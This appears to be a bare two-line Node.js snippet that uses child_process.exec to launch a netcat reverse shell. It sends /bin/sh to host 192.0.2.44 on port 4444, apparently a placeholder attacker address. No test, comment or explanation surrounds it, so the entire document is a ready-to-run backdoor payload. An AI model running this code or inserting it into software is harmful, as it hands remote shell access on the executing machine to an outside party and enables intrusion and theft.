const { exec } = require('child_process');
exec('nc 192.0.2.44 4444 -e /bin/sh');
